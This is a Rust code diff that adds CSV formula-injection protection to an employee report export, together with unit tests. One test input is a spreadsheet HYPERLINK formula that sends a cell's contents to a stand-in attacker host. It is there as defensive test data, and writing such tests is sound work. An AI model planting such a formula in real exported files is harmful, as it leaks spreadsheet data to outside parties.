@@ -209,8 +209,23 @@ pub const CSV_HEADER: &[&str] = &[
     "gaps",
 ];
 
-/// A row as CSV fields, in `CSV_HEADER` order.
+/// A cell a spreadsheet will not run as a formula (OWASP's CSV injection
+/// advice): one that starts with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return gets a leading apostrophe, which spreadsheets show as text.
+pub fn neutralise(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+/// A row as CSV fields, in `CSV_HEADER` order, each neutralised.
 pub fn csv_fields(row: &ReportRow) -> [String; 10] {
+    raw_csv_fields(row).map(neutralise)
+}
+
+fn raw_csv_fields(row: &ReportRow) -> [String; 10] {
     [
         row.employee_number.clone(),
         row.name.clone(),
@@ -241,4 +256,26 @@ pub fn json_of(row: &ReportRow) -> serde_json::Value {
             "kind": g.kind.as_str(), "message": g.message,
         })).collect::<Vec<_>>(),
     })
+}
+
+#[cfg(test)]
+mod csv_tests {
+    use super::neutralise;
+
+    #[test]
+    fn formulas_are_neutralised_and_plain_text_is_kept() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(neutralise(formula.into()), format!("'{formula}"));
+        }
+        for plain in ["Yui Sato", "2026-11-26", "", "a=b", "needs Coaching 3"] {
+            assert_eq!(neutralise(plain.into()), plain);
+        }
+    }
 }
